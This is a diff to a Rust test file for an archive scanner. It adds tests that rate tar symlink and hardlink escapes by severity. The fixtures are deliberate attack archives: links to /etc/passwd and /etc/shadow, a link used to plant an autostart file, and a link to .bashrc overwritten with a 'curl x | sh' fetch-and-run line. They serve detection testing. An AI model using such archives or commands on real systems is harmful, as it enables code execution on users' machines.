@@ -15,6 +15,7 @@ fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
     zip.finish().unwrap().into_inner()
 }
 
+#[derive(Clone, Copy)]
 enum TarEntry<'a> {
     File(&'a str, &'a [u8]),
     Symlink(&'a str, &'a str),
@@ -97,8 +98,32 @@ fn links_inside_the_archive_are_fine_and_escaping_ones_are_not() {
         TarEntry::Hardlink("demo-1.0/shadow", "/etc/shadow"),
     ]);
     let report = inspect_archive("demo-1.0.tar.gz", &tar, &Limits::default());
-    let escapes: Vec<String> = report.findings.iter().filter(|f| f.rule == "archive/link-escape").flat_map(|f| f.each_place()).filter_map(|f| f.file).collect();
+    let mut escapes: Vec<String> =
+        report.findings.iter().filter(|f| f.rule == "archive/link-escape").flat_map(|f| f.each_place()).filter_map(|f| f.file).collect();
+    escapes.sort();
     assert_eq!(escapes, ["demo-1.0/passwd", "demo-1.0/shadow"]);
+}
+
+/// The severity of a symlink out of the archive in an sdist of `entries` (after PKG-INFO).
+fn escaping_link_severity(entries: &[TarEntry]) -> Vec<Severity> {
+    let mut all = vec![TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO)];
+    all.extend_from_slice(entries);
+    let report = inspect_archive("demo-1.0.tar.gz", &tar_gz_of(&all), &Limits::default());
+    report.findings.iter().filter(|f| f.rule == "archive/link-escape").map(|f| f.severity).collect()
+}
+
+#[test]
+fn a_relative_link_out_that_nothing_goes_through_is_medium_and_one_used_as_a_path_is_high() {
+    // A monorepo's license, linked from the package folder: extractors refuse it, nothing is written through it.
+    assert_eq!(escaping_link_severity(&[TarEntry::Symlink("demo-1.0/LICENSE", "../../LICENSE")]), [Severity::Medium]);
+    // The same link, then a folder entry written through it: the classic extraction attack.
+    let through = [TarEntry::Symlink("demo-1.0/cfg", "../../.config"), TarEntry::File("demo-1.0/cfg/autostart/x.desktop", b"[Desktop Entry]")];
+    assert_eq!(escaping_link_severity(&through), [Severity::High]);
+    // A second entry of the link's own name is written where the link points.
+    let twice = [TarEntry::Symlink("demo-1.0/rc", "../../.bashrc"), TarEntry::File("demo-1.0/rc", b"curl x | sh")];
+    assert_eq!(escaping_link_severity(&twice), [Severity::High]);
+    // An absolute target is high whatever follows.
+    assert_eq!(escaping_link_severity(&[TarEntry::Symlink("demo-1.0/LICENSE", "/etc/passwd")]), [Severity::High]);
 }
 
 #[test]
